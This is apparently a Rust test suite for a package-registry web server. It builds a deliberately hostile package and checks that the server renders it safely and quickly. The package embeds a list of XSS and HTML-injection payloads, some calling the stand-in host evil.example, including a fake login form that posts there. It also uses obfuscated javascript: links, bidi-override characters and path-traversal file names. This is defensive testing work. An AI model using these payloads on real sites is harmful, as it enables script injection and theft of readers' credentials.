//! A package that attacks its readers, and the server.

use std::time::{Duration, Instant};

use super::{crawl, document, entry, page, serve, status};
use crate::support::raw_tar::Entry;
use crate::support::repository::TestRepository;
use crate::support::server::Server;
use crate::support::stopwatch::Stopwatch;
use crate::support::tarball::Tarball;

/// How much work a page may be, in a build that is not optimised.
const SOON: Duration = Duration::from_secs(15);

/// A host that no page may ask.
pub const HOST: &str = "evil.example";

/// What would run `window.evil = 1`, open a dialog, or ask a host, if a browser took it for more than text.
pub const ATTACKS: [&str; 46] = [
    "<script>window.evil=1;alert(1)</script>",
    "<script src=http://evil.example/a.js></script>",
    "<scr<script>ipt>window.evil=1</scr</script>ipt>",
    "<img src=x onerror=window.evil=1>",
    "<img src=http://evil.example/a.png>",
    "<img src=//evil.example/b.png alt=shown>",
    "![far](http://evil.example/c.png)",
    "![far](//evil.example/d.png)",
    "![far](\\\\evil.example/e.png)",
    "![far](/\\evil.example/f.png)",
    "<img srcset=\"http://evil.example/g.png 2x\" src=logo.png>",
    "<picture><source srcset=http://evil.example/h.png><img src=logo.png></picture>",
    "<svg onload=window.evil=1><script>window.evil=1</script></svg>",
    "<svg><image href=http://evil.example/i.png /></svg>",
    "<svg><foreignObject><iframe src=javascript:window.evil=1></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.evil=1&gt;\">",
    "<iframe src=javascript:parent.evil=1></iframe>",
    "<iframe srcdoc='<script>parent.evil=1</script>'></iframe>",
    "<frameset><frame src=http://evil.example/j></frameset>",
    "<object data=http://evil.example/k></object><embed src=http://evil.example/l>",
    "<form action=http://evil.example/m><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:window.evil=1>Press</button>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/n'>",
    "<link rel=stylesheet href=http://evil.example/o.css>",
    "<link rel=prefetch href=http://evil.example/p><link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'http://evil.example/q.css'; body { display: none }</style>",
    "<div style=\"background:url(http://evil.example/r.png);position:fixed;inset:0\">over all</div>",
    "<p onclick=window.evil=1 onmouseover=window.evil=1>touch</p>",
    "<details open ontoggle=window.evil=1><summary>open</summary>x</details>",
    "<video autoplay poster=http://evil.example/s.png src=http://evil.example/t onerror=window.evil=1></video>",
    "<audio src=http://evil.example/u autoplay></audio>",
    "<input autofocus onfocus=window.evil=1>",
    "<body onload=window.evil=1 background=http://evil.example/v.png>",
    "<a href=http://evil.example/w ping=http://evil.example/x>a link, which is one</a>",
    "[run](javascript:window.evil=1)",
    "[run](JaVaScRiPt:window.evil=1)",
    "[run](javascript&colon;window.evil=1)",
    "[run](java&Tab;script:window.evil=1)",
    "[run](&#x6A;avascript:window.evil=1)",
    "<a href=\"&#1;javascript:window.evil=1\">run</a>",
    "[run](vbscript:msgbox(1))",
    "[run](data:text/html,<script>window.evil=1</script>)",
    "<a id=search name=q href=#>takes a name of the page</a><form id=search></form><input id=q>",
    "</div></section></main><script>window.evil=1</script>",
    "<!--><script>window.evil=1</script>--><![CDATA[<script>window.evil=1</script>]]><?php evil ?>",
];

/// An image that is a document.
pub const SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"20\" \
    height=\"20\" onload=\"parent.evil=1;window.evil=1\"><script>window.evil=1;alert(1)</script>\
    <image xlink:href=\"http://evil.example/svg.png\" width=\"9\" height=\"9\"/>\
    <foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://evil.example/svg\"/></foreignObject>\
    <style>@import 'http://evil.example/svg.css';</style></svg>";

/// Names of files that are more than names.
pub const NAMES: [&str; 8] = [
    "\"><script>window.evil=1</script>.md",
    "' onmouseover='window.evil=1.ex",
    "a\nb.ex",
    "%2e%2e%2fsecret.ex",
    "...",
    "javascript:window.evil=1",
    "\u{202e}xe.live",
    "a?b#c&d;e.ex",
];

/// A package that attacks its readers.
pub fn evil() -> TestRepository {
    let readme = format!("# Evil\n\n{}\n", ATTACKS.join("\n\n"));
    let changes = format!("# Changelog\n\n## 1.0.0\n\n{}\n", ATTACKS.join("\n\n"));
    let texts = [
        ("README.md", readme.as_bytes()),
        ("CHANGELOG.md", changes.as_bytes()),
        ("evil.svg", SVG.as_bytes()),
        (
            "evil.html",
            b"<script>window.evil=1;alert(1)</script><img src=http://evil.example/raw.png>",
        ),
        ("logo.png", b"<script>window.evil=1</script>"),
        ("lib/evil.ex", b"# </code><script>window.evil=1</script>\ndefmodule Evil do\nend\n"),
        (
            "image.md",
            b"![drawn](evil.svg) ![drawn](evil.svg?x#y) <img src=evil.svg onload=window.evil=1>\n",
        ),
    ];
    let files = texts.into_iter().chain(NAMES.map(|name| (name, b"x\n".as_slice())));
    let files: Vec<Entry> = files.flat_map(|(path, data)| entry(path, data)).collect();
    let of = |version: &str| {
        let description =
            "\u{202e}\u{2066}حزمة خبيثة\u{202e} <script>window.evil=1</script> \u{200f}\u{1}";
        Tarball::new("evil", version)
            .more_metadata(
                "{<<\"links\">>,[{<<\"<script>window.evil=1</script>\">>,<<\"javascript:window.evil=1\">>},\
                 {<<\"Home\">>,<<\"http://evil.example/home\">>},{<<\"Tab\">>,<<\"java\\tscript:window.evil=1\">>},\
                 {<<\"\\\"><img src=x onerror=window.evil=1>\">>,<<\"https://evil.example/\\\" onclick=window.evil=1\">>}]}.\n\
                 {<<\"elixir\">>,<<\"<script>window.evil=1</script>\">>}.\n",
            )
            .described(description, &["<script>window.evil=1</script>", "MIT\u{202e}TIM"], &[])
            .files(&files)
            .build()
    };
    // A name that looks like another.
    let repository = TestRepository::new()
        .tarball("evil-1.0.0.tar", &of("1.0.0"))
        .tarball("evil-1.1.0.tar", &of("1.1.0"))
        .release("rn", "1.0.0")
        .release("m", "1.0.0");
    repository.build(&[]).ok();
    let retire =
        ["retire", "--to=public", "--name=acme", "--private-key=key.pem", "--reason=other"];
    let message = "--message=<script>window.evil=1</script> http://evil.example/";
    repository.hexreg().run(retire.iter().chain(&[message, "evil", "1.0.0"]).copied()).ok();
    repository
}

/// The page at a path, soon.
#[track_caller]
fn soon(server: &Server, path: &str) -> String {
    let work = Stopwatch::of(server);
    let found = page(server, path);
    assert!(work.elapsed() < SOON, "{path} took {:?}", work.elapsed());
    found.words()
}

#[test]
fn nothing_of_a_package_is_more_than_text() {
    let repository = evil();
    let server = serve(&repository, &[]);
    let pages = crawl(&server, "/", &[]);
    assert!(pages.len() > 25, "{}", pages.len());
    for (path, found) in &pages {
        for tag in &found.tags {
            for (name, value) in &tag.attributes {
                // Readers may follow links to other sites, and nothing else leads there.
                let is_link = tag.name == "a" && name == "href";
                assert!(is_link || !value.contains("//evil.example"), "{path}: {tag:?}");
            }
        }
        let is_hidden = |one: char| ('\u{202a}'..='\u{202e}').contains(&one) || one == '\u{1}';
        assert!(!found.text.contains(is_hidden), "{path}: {:?}", found.text);
    }
    let text = soon(&server, "/browse/evil");
    assert!(text.contains("حزمة خبيثة"), "{text}");
    assert!(text.contains("a link, which is one") && text.contains("over all"), "{text}");
    // Ids of a package are no ids of the page.
    let found = page(&server, "/browse/evil");
    for id in ["search", "q", "main"] {
        assert_eq!(found.tags.iter().filter(|tag| tag.get("id") == Some(id)).count(), 1, "{id}");
    }
    // Each file can be read, whatever its name.
    let list = page(&server, "/browse/evil/1.1.0/files/");
    let shown = list.links().iter().filter(|link| link.contains("/files/")).count();
    assert_eq!(shown, 8 + NAMES.len(), "{:?}", list.links());
    let feed = server.get("/recent.atom", &[]).text();
    assert!(!feed.contains("<script"), "{feed}");
}

/// A package with one README, beside another package.
fn with_readme(readme: &[u8]) -> (TestRepository, Server) {
    let heavy = Tarball::new("heavy", "1.0.0")
        .described("Heavy", &["MIT"], &[("README.md", readme)])
        .build();
    let repository =
        TestRepository::new().tarball("heavy-1.0.0.tar", &heavy).release("light", "1.0.0");
    repository.build(&[]).ok();
    let server = serve(&repository, &[]);
    (repository, server)
}

#[test]
fn texts_that_take_long_to_read_are_shown_in_time() {
    let lists = "* ".repeat(10_000) + "deep\n";
    let quotes = "> ".repeat(10_000) + "deep\n";
    let line = "word ".repeat((16 << 20) / 5);
    let emphasis = "*a_".repeat(100_000);
    let brackets = "[".repeat(200_000);
    let links = "[a](".repeat(100_000);
    let tags = "<b>".repeat(100_000);
    let table = format!("{}\n{}\n{}", "|a".repeat(5_000), "|-".repeat(5_000), "|b\n".repeat(5_000));
    let headings = "# a\n".repeat(50_000);
    let texts = [
        ("lists", &lists),
        ("quotes", &quotes),
        ("line", &line),
        ("emphasis", &emphasis),
        ("brackets", &brackets),
        ("links", &links),
        ("tags", &tags),
        ("table", &table),
        ("headings", &headings),
    ];
    let repository = TestRepository::new().release("light", "1.0.0");
    for (name, readme) in texts {
        let files = [("README.md", readme.as_bytes())];
        let tarball = Tarball::new(name, "1.0.0").described("Heavy", &["MIT"], &files).build();
        repository.write_tarball(&format!("{name}-1.0.0.tar"), &tarball);
    }
    repository.build(&[]).ok();
    let server = serve(&repository, &[]);
    for (name, _) in texts {
        let work = Stopwatch::of(&server);
        let answer = server.get(&format!("/browse/{name}"), &[]);
        assert!(work.elapsed() < SOON, "{name} took {:?}", work.elapsed());
        assert!(answer.body.len() < 12 << 20, "{name}: {} bytes", answer.body.len());
        document(&answer);
        soon(&server, &format!("/browse/{name}/1.0.0/files/README.md"));
        assert_eq!(status(&server, "/healthz"), 200, "{name}");
    }
    soon(&server, "/?q=word");
    soon(&server, "/browse/light");
}

#[test]
fn source_that_takes_long_to_colour_and_to_compare_is_shown_in_time() {
    let quotes = "\"#{".repeat(80_000);
    let sigils = "~s(".repeat(80_000);
    let wide = format!("x = {}\n", "[".repeat(250_000));
    let lines = "a = \"#{b}\" # c\n".repeat(16_000);
    let other = "b = 'c' % d\n".repeat(16_000);
    let files = |first: &str, last: &str| {
        let files = [
            ("lib/a.ex", quotes.as_str()),
            ("lib/b.ex", &sigils),
            ("src/c.erl", &wide),
            ("lib/d.ex", first),
            ("e.js", last),
        ];
        files.iter().flat_map(|(path, data)| entry(path, data.as_bytes())).collect::<Vec<_>>()
    };
    let repository = TestRepository::new()
        .tarball(
            "heavy-1.0.0.tar",
            &Tarball::new("heavy", "1.0.0").files(&files(&lines, &other)).build(),
        )
        .tarball(
            "heavy-1.1.0.tar",
            &Tarball::new("heavy", "1.1.0").files(&files(&other, &lines)).build(),
        );
    repository.build(&[]).ok();
    let server = serve(&repository, &[]);
    for path in ["lib/a.ex", "lib/b.ex", "src/c.erl", "lib/d.ex", "e.js"] {
        soon(&server, &format!("/browse/heavy/1.0.0/files/{path}"));
    }
    let text = soon(&server, "/browse/heavy/diff/1.0.0..1.1.0");
    assert!(text.contains("3 changed, 3 the same"), "{}", &text[..300]);
}

#[test]
fn ten_thousand_files_are_listed_in_part_and_read_all() {
    let files: Vec<Entry> =
        (0..10_000).map(|number| Entry::file(&format!("lib/{number:05}.ex"), b"x\n")).collect();
    let tarball = Tarball::new("many", "1.0.0").files(&files).build();
    let repository = TestRepository::new().tarball("many-1.0.0.tar", &tarball);
    repository.build(&[]).ok();
    let server = serve(&repository, &[]);
    let text = soon(&server, "/browse/many/1.0.0/files/");
    assert!(text.contains("10,001 files") && text.contains("and 5,001 more"), "{}", &text[..300]);
    assert!(soon(&server, "/browse/many/1.0.0/files/lib/09999.ex").contains('x'));
    soon(&server, "/browse/many");
}

/// Many readers at once of what takes long.
#[test]
fn a_heavy_page_holds_up_no_file() {
    let (_repository, server) = with_readme("* [x](y) `z` **w**\n".repeat(20_000).as_bytes());
    std::thread::scope(|scope| {
        let readers: Vec<_> =
            (0..6).map(|_| scope.spawn(|| server.get("/browse/heavy", &[]).status)).collect();
        while readers.iter().any(|one| !one.is_finished()) {
            let began = Instant::now();
            assert_eq!(status(&server, "/packages/light"), 200);
            assert!(began.elapsed() < Duration::from_secs(2), "{:?}", began.elapsed());
        }
        for reader in readers {
            assert!([200, 429].contains(&reader.join().unwrap()));
        }
    });
    assert_eq!(status(&server, "/browse/heavy"), 200);
}
